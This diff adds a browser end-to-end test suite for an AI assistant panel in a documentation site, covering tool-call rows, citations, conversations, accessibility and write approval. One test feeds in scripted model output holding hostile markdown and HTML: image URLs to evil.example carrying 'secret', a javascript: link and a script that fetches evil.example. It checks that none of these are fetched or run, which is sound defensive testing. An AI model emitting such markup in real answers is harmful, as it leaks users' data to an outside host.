@@ -1,0 +1,443 @@
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { type LanguageServer, languageServer, type Script } from '../support/language-server.ts'
+import { barriers, isTooWide } from './barriers.ts'
+import { TEAM } from './corpus.ts'
+import { LAB } from './packages-corpus.ts'
+import {
+  CHROMIUM,
+  launch,
+  named,
+  pictured,
+  type Seen,
+  type Served,
+  SIGHTS,
+  see,
+  serving,
+  sightName,
+} from './support.ts'
+
+let browser: Browser
+
+beforeAll(async () => {
+  if (CHROMIUM !== undefined) browser = await launch()
+}, 60_000)
+
+afterAll(() => browser?.close())
+
+const TIDES = '/packages/lab/harbour/tides'
+const QUESTION = 'What happens after a timeout?'
+
+const panel = (page: Page) => page.getByRole('region', { name: 'Assistant' })
+const log = (page: Page) => page.getByRole('log', { name: 'Conversation' })
+const rows = (page: Page) => log(page).locator('li button[aria-expanded]')
+const chip = (page: Page) => page.getByRole('button', { name: /^The assistant stands at/ })
+
+async function opened({ page }: Seen, { url }: Served, path: string): Promise<Page> {
+  await page.goto(`${url}${path}`)
+  const button = page.getByRole('button', { name: 'Assistant', exact: true }).first()
+  await button.waitFor()
+  if ((await button.getAttribute('aria-pressed')) !== 'true') await button.click()
+  await panel(page).waitFor()
+  return page
+}
+
+async function ask(page: Page, question: string): Promise<void> {
+  await page.getByRole('textbox', { name: 'Ask about this place' }).fill(question)
+  await page.keyboard.press('Enter')
+}
+
+/** The answer is whole. */
+async function answered(page: Page, count = 1): Promise<void> {
+  await log(page)
+    .getByRole('button', { name: 'Answer again' })
+    .nth(count - 1)
+    .waitFor()
+  await page.getByRole('button', { name: 'Ask', exact: true }).waitFor()
+}
+
+interface Scripted {
+  readonly seen: Seen
+  readonly served: Served
+  readonly model: LanguageServer
+}
+
+async function scripted(script: Script, work: (scripted: Scripted) => Promise<void>, allowWrite = false) {
+  await using model = await languageServer('chat', script)
+  await using served = await serving({ ...TEAM, model: model.url }, { allowWrite })
+  await using seen = await see(browser, served)
+  await work({ seen, served, model })
+}
+
+const call = (tool: string, input: object) => ({ calls: [{ tool, input }] })
+
+describe.skipIf(CHROMIUM === undefined)(named('The assistant, with the model that is built in'), () => {
+  it('stands on the page of a package, says how much context that is, and looks things up', async () => {
+    await using served = await serving(LAB)
+    await using seen = await see(browser, served)
+    const page = await opened(seen, served, TIDES)
+    await expect
+      .poll(() => chip(page).getAttribute('aria-label'))
+      .toMatch(/stands at harbour\/tides; context: [1-9]\d* parts, [\d,]+ tokens/)
+    await panel(page).getByRole('button', { name: 'What is harbour/tides?' }).waitFor()
+    await pictured(page, 'assistant-package')
+    await ask(page, 'How many gauges are there in the harbour?')
+    await answered(page)
+    expect(await log(page).textContent()).toContain('Water levels at the seven gauges of the harbour')
+    expect(await rows(page).count()).toBeGreaterThan(0)
+    await pictured(page, 'assistant-package-answered')
+    expect(seen.complaints).toEqual([])
+  })
+
+  it('shows each call as a row that is closed, and opens by keyboard to all that went in and came out', async () => {
+    await using served = await serving(TEAM)
+    await using seen = await see(browser, served)
+    const page = await opened(seen, served, '/browse/handbook/api')
+    await ask(page, QUESTION)
+    await answered(page)
+    const first = rows(page).first()
+    expect(await first.textContent()).toContain(`Search${QUESTION}`)
+    expect(await page.getByText('Tool Use').count()).toBe(0)
+    expect(await rows(page).evaluateAll((all) => all.map((row) => row.getAttribute('aria-expanded')))).not.toContain(
+      'true',
+    )
+    await first.getByRole('img', { name: 'Done' }).waitFor()
+    await first.focus()
+    await page.keyboard.press('Enter')
+    const input = log(page).getByRole('region', { name: 'Input' })
+    expect(JSON.parse((await input.textContent()) ?? '')).toEqual({ query: QUESTION })
+    const result = await log(page).getByRole('region', { name: 'Result' }).textContent()
+    expect(result).toMatch(/^<sources>[\s\S]*<hit [\s\S]*<\/hit>/)
+    await pictured(page, 'assistant-row-open')
+    await page.keyboard.press('Space')
+    await input.waitFor({ state: 'detached' })
+    expect(seen.complaints).toEqual([])
+  })
+
+  it('leads from what an answer cites to the place', async () => {
+    await using served = await serving(TEAM)
+    await using seen = await see(browser, served)
+    const page = await opened(seen, served, '/')
+    await ask(page, QUESTION)
+    await answered(page)
+    const source = log(page).getByRole('list', { name: 'Sources' }).getByRole('link').first()
+    const address = await source.getAttribute('href')
+    expect([await source.getAttribute('aria-label'), address]).toEqual([
+      expect.stringMatching(/^Source \d+: \w+\/.*\.\w+$/),
+      expect.stringMatching(/^\/browse\/\w+\/.*\.\w+$/),
+    ])
+    await source.click()
+    await page.waitForURL(`**${address}`)
+    expect(await rows(page).count()).toBeGreaterThan(0)
+    expect(seen.complaints).toEqual([])
+  })
+
+  it('keeps the conversation when the page is loaded anew, and begins another', async () => {
+    await using served = await serving(TEAM)
+    await using seen = await see(browser, served)
+    const page = await opened(seen, served, '/browse/handbook')
+    await ask(page, QUESTION)
+    await answered(page)
+    const said = await log(page).textContent()
+    await page.reload()
+    await answered(page)
+    expect(await log(page).textContent()).toBe(said)
+    await panel(page).getByRole('button', { name: 'New conversation' }).click()
+    await panel(page).getByText('The assistant knows what applies').waitFor()
+    await panel(page).getByRole('button', { name: 'Conversations' }).click()
+    await panel(page)
+      .getByRole('button', { name: new RegExp(`^${QUESTION.replace('?', '\\?')}.*1 question`) })
+      .click()
+    await answered(page)
+    expect(await log(page).textContent()).toBe(said)
+    expect(seen.complaints).toEqual([])
+  })
+
+  it('renames, exports and deletes conversations', async () => {
+    await using served = await serving(TEAM)
+    await using seen = await see(browser, served)
+    const page = await opened(seen, served, '/')
+    await ask(page, QUESTION)
+    await answered(page)
+    await panel(page).getByRole('button', { name: 'Conversations' }).click()
+    const act = async (title: string, item: string) => {
+      await page.getByRole('button', { name: `Actions for ${title}` }).click()
+      await page.getByRole('menuitem', { name: item }).click()
+    }
+    await act(QUESTION, 'Rename…')
+    await page.getByLabel('Title').fill('Timeouts')
+    await pictured(page, 'assistant-rename')
+    await page.getByRole('button', { name: 'Rename', exact: true }).click()
+    await panel(page)
+      .getByRole('button', { name: /^Timeouts/ })
+      .waitFor()
+    await pictured(page, 'assistant-conversations')
+    const [download] = await Promise.all([page.waitForEvent('download'), act('Timeouts', 'Export as Markdown')])
+    expect(download.suggestedFilename()).toBe('Timeouts.md')
+    const text = await (await import('node:fs/promises')).readFile(await download.path(), 'utf8')
+    expect(text).toMatch(/^# Timeouts\n\n## You\n\nWhat happens/)
+    await act('Timeouts', 'Delete…')
+    await page.getByRole('button', { name: 'Delete', exact: true }).click()
+    await panel(page).getByText('There are no conversations yet').waitFor()
+    expect((await (await served.engine.conversations()).list({ limit: 5 })).conversations).toEqual([])
+    expect(seen.complaints).toEqual([])
+  })
+
+  it('shows the context in the inspector, and what the model was sent', async () => {
+    await using served = await serving(TEAM)
+    await using seen = await see(browser, served)
+    const page = await opened(seen, served, '/browse/handbook')
+    await ask(page, QUESTION)
+    await answered(page)
+    await chip(page).click()
+    await page.getByRole('menuitem', { name: 'What the model was sent' }).click()
+    const prompt = page.getByRole('region', { name: 'Prompt' })
+    await prompt
+      .getByText('What a page', { exact: false })
+      .or(prompt.getByText('The manual of the relay'))
+      .first()
+      .waitFor()
+    expect(await prompt.textContent()).toMatch(/listing: api\/, decisions\//)
+    await pictured(page, 'assistant-prompt')
+    await page.keyboard.press('Escape')
+    await chip(page).click()
+    await page.getByRole('menuitem', { name: 'Open in the inspector' }).click()
+    await page.waitForURL('**/context?place=ambit*')
+    expect(seen.complaints).toEqual([])
+  })
+
+  it.each(SIGHTS)('looks as it should at $width px, dark: $dark, and has no barriers', async (sight) => {
+    await using served = await serving(TEAM)
+    await using seen = await see(browser, served, sight)
+    const page = await opened(seen, served, '/browse/handbook/api/errors.md')
+    await panel(page).getByRole('list', { name: 'Questions to begin with' }).getByRole('button').first().waitFor()
+    await pictured(page, `assistant-begin-${sightName(sight)}`)
+    await ask(page, QUESTION)
+    await answered(page)
+    await rows(page).first().click()
+    await pictured(page, `assistant-${sightName(sight)}`)
+    expect([await barriers(page), await isTooWide(page)]).toEqual([[], false])
+    expect(seen.complaints).toEqual([])
+  })
+
+  it('has room at 360 px, and for its list', async () => {
+    await using served = await serving(TEAM)
+    await using seen = await see(browser, served, { width: 360, height: 740 })
+    const page = await opened(seen, served, '/browse/handbook')
+    await ask(page, QUESTION)
+    await answered(page)
+    await pictured(page, 'assistant-360')
+    await panel(page).getByRole('button', { name: 'Conversations' }).click()
+    await panel(page).getByRole('list', { name: 'Conversations' }).waitFor()
+    expect([await barriers(page), await isTooWide(page)]).toEqual([[], false])
+  })
+
+  it('is loaded when it is opened, and not before', async () => {
+    await using served = await serving(TEAM)
+    await using seen = await see(browser, served)
+    const { page } = seen
+    const loaded: string[] = []
+    page.on('request', (request) => loaded.push(new URL(request.url()).pathname))
+    await page.goto(`${served.url}/`)
+    await page.getByRole('heading', { name: 'What is weak' }).waitFor()
+    await page.waitForLoadState('networkidle')
+    expect(loaded.filter((path) => /Assistant|\/api\/chat/.test(path))).toEqual([])
+    await page.keyboard.press('g')
+    await page.keyboard.press('a')
+    await panel(page).waitFor()
+    expect(loaded.some((path) => path.includes('Assistant'))).toBe(true)
+  })
+})
+
+describe.skipIf(CHROMIUM === undefined)(named('The assistant, with a model that is scripted'), () => {
+  it('moves the view of the person, and stands there then', () =>
+    scripted(
+      [call('navigate', { place: 'ambit://handbook/api' }), { text: 'Here it is.' }],
+      async ({ seen, served }) => {
+        const page = await opened(seen, served, '/browse/handbook')
+        await ask(page, 'Lead me to the API.')
+        await page.waitForURL('**/browse/handbook/api')
+        await answered(page)
+        await expect.poll(() => chip(page).getAttribute('aria-label')).toContain('stands at api')
+        expect(await log(page).textContent()).toContain('Here it is.')
+        expect(seen.complaints).toEqual([])
+      },
+    ))
+
+  it('shows calls that are done side by side each as a row, with what became of it', () =>
+    scripted(
+      [
+        {
+          calls: [
+            { tool: 'search', input: { query: 'timeout' } },
+            { tool: 'read', input: { path: 'handbook/none.md' } },
+            { tool: 'strange_tool', input: {} },
+          ],
+        },
+        { text: 'One of three.' },
+      ],
+      async ({ seen, served }) => {
+        const page = await opened(seen, served, '/browse/handbook')
+        await ask(page, 'Look.')
+        await answered(page)
+        const marks = await rows(page)
+          .getByRole('img')
+          .evaluateAll((all) => all.map((one) => one.getAttribute('aria-label')))
+        expect(marks).toEqual(['Done', 'Failed', 'Failed'])
+        await rows(page).nth(1).click()
+        expect(await log(page).getByRole('region', { name: 'What went wrong' }).textContent()).toContain('not-found')
+        await pictured(page, 'assistant-rows')
+        expect(seen.complaints).toEqual([])
+      },
+    ))
+
+  it('stops an answer, and the model is asked no more', () =>
+    scripted(
+      [{ stream: { pieces: [piece('Half an answer')], end: 'hang' } }, { text: 'Whole.' }],
+      async ({ seen, served, model }) => {
+        const page = await opened(seen, served, '/browse/handbook')
+        await ask(page, 'What?')
+        await log(page).getByText('Half an answer').waitFor()
+        await page.getByRole('button', { name: 'Stop the answer' }).click()
+        await log(page).getByText('You stopped the answer.').waitFor()
+        await expect.poll(() => model.closed).toBe(1)
+        await ask(page, 'And now?')
+        await log(page).getByText('Whole.').waitFor()
+        expect(seen.complaints).toEqual([])
+      },
+    ))
+
+  it('says what went wrong and what to do, also when loaded anew, and tries again', () =>
+    scripted([{ fault: { status: 401, body: '{}' } }, { text: 'Now it works.' }], async ({ seen, served }) => {
+      const page = await opened(seen, served, '/browse/handbook')
+      await ask(page, 'What?')
+      const alert = log(page).getByRole('alert')
+      await alert.waitFor()
+      expect(await alert.textContent()).toMatch(/key/i)
+      await pictured(page, 'assistant-error')
+      await page.reload()
+      await alert.waitFor()
+      await alert.getByRole('button', { name: 'Try again' }).click()
+      await log(page).getByText('Now it works.').waitFor()
+      expect(await log(page).getByRole('article', { name: 'You asked' }).count()).toBe(1)
+      expect(seen.complaints).toEqual([])
+    }))
+
+  it('edits a question and asks it again', () =>
+    scripted([{ text: 'First.' }, { text: 'Second.' }, { text: 'Third.' }], async ({ seen, served }) => {
+      const page = await opened(seen, served, '/browse/handbook')
+      await ask(page, 'One?')
+      await answered(page)
+      await ask(page, 'Two?')
+      await answered(page, 2)
+      await log(page).getByRole('article', { name: 'You asked' }).first().hover()
+      await log(page).getByRole('button', { name: 'Edit the question' }).first().click()
+      await page.getByRole('textbox', { name: 'The question' }).fill('Other?')
+      await page.getByRole('button', { name: 'Ask again' }).click()
+      await log(page).getByText('Third.').waitFor()
+      expect(await log(page).getByRole('article', { name: 'You asked' }).allTextContents()).toEqual(['Other?'])
+      await log(page).getByRole('button', { name: 'Copy the answer' }).waitFor()
+      expect(seen.complaints).toEqual([])
+    }))
+
+  it('asks before it writes, and does what the person says', () =>
+    scripted(
+      [call('set_path_context', { path: 'handbook/decisions', text: 'What was decided.' }), { text: 'It is written.' }],
+      async ({ seen, served }) => {
+        const page = await opened(seen, served, '/browse/handbook')
+        await ask(page, 'Describe the decisions.')
+        const asking = log(page).getByRole('group', { name: 'May the assistant do this?' })
+        await asking.waitFor()
+        expect(await asking.textContent()).toContain('What was decided.')
+        await pictured(page, 'assistant-approval')
+        const said = async () => (await (await served.engine.contexts()).list()).map(({ context }) => context)
+        expect(await said()).not.toContain('What was decided.')
+        await asking.getByRole('button', { name: 'Allow once' }).click()
+        await log(page).getByText('It is written.').waitFor()
+        expect(await said()).toContain('What was decided.')
+        expect(seen.complaints).toEqual([])
+      },
+      true,
+    ))
+
+  it('goes on in two tabs: one that comes later joins the answer, and both have the same in the end', () =>
+    scripted(
+      [{ stream: { pieces: [piece('A long '), piece('answer')], end: 'hang' } }, { text: 'After it.' }],
+      async ({ seen, served }) => {
+        const page = await opened(seen, served, '/browse/handbook')
+        await ask(page, 'What?')
+        await log(page).getByText('A long answer').waitFor()
+        const second = await seen.context.newPage()
+        const other = await opened({ ...seen, page: second }, served, '/')
+        await panel(other).getByRole('button', { name: 'Conversations' }).click()
+        await panel(other)
+          .getByRole('button', { name: /^What\?/ })
+          .click()
+        await log(other).getByText('A long answer').waitFor()
+        await other.getByRole('button', { name: 'Stop the answer' }).click()
+        for (const each of [page, other]) await log(each).getByText('You stopped the answer.').waitFor()
+        await ask(other, 'And then?')
+        await log(other).getByText('After it.').waitFor()
+        await page.evaluate(() => dispatchEvent(new Event('focus')))
+        await log(page).getByText('After it.').waitFor()
+        expect(await log(page).textContent()).toBe(await log(other).textContent())
+        expect(seen.complaints).toEqual([])
+      },
+    ))
+
+  it('goes on when its page is closed, and is there when one comes back', () =>
+    scripted([{ stream: { pieces: [piece('Still here')], end: 'hang' } }], async ({ seen, served }) => {
+      const page = await opened(seen, served, '/browse/handbook')
+      await ask(page, 'What?')
+      await log(page).getByText('Still here').waitFor()
+      await page.reload()
+      await log(page).getByText('Still here').waitFor()
+      await page.getByRole('button', { name: 'Stop the answer' }).waitFor()
+    }))
+
+  it('fetches nothing that an answer names: no image, no link, no HTML', () =>
+    scripted(
+      [
+        {
+          text: [
+            '![p](https://evil.example/p.png?q=secret) <img src="https://evil.example/q.png"> ',
+            '[click](https://evil.example/c) [run](javascript:alert(1)) <script>fetch("https://evil.example")</script> ',
+            '[data](data:text/html,x) `<b>` ![q](//evil.example/r.png)\n\n> quoted\n\n| a | b |\n| - | - |\n| 1 | 2 |\n',
+          ],
+        },
+      ],
+      async ({ seen, served }) => {
+        const asked: string[] = []
+        seen.page.on('request', (request) => asked.push(request.url()))
+        const page = await opened(seen, served, '/browse/handbook')
+        await ask(page, 'Show me.')
+        await answered(page)
+        await log(page).getByText('image from').first().waitFor()
+        expect(asked.filter((url) => !url.startsWith(served.url))).toEqual([])
+        const links = await log(page)
+          .locator('.prose a')
+          .evaluateAll((all) => all.map((one) => one.getAttribute('href')))
+        // Addresses that stand there as text are links, too, which show where they lead.
+        expect(links).toEqual(['https://evil.example/c', 'https://evil.example'])
+        expect(await log(page).locator('img, script, iframe').count()).toBe(0)
+        await pictured(page, 'assistant-hostile')
+        expect(seen.complaints).toEqual([])
+      },
+    ))
+
+  it('takes another model, when the person chooses it', () =>
+    scripted([{ text: 'Scripted.' }], async ({ seen, served }) => {
+      const page = await opened(seen, served, '/browse/handbook')
+      await page.getByRole('combobox', { name: 'Model' }).selectOption('local/extractive')
+      await ask(page, QUESTION)
+      await answered(page)
+      expect(await log(page).textContent()).toContain('local/extractive')
+      expect(seen.complaints).toEqual([])
+    }))
+})
+
+/** What a service sends first of a text. */
+function piece(content: string): string {
+  const choices = [{ index: 0, delta: { content }, finish_reason: null }]
+  return `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices })}\n\n`
+}
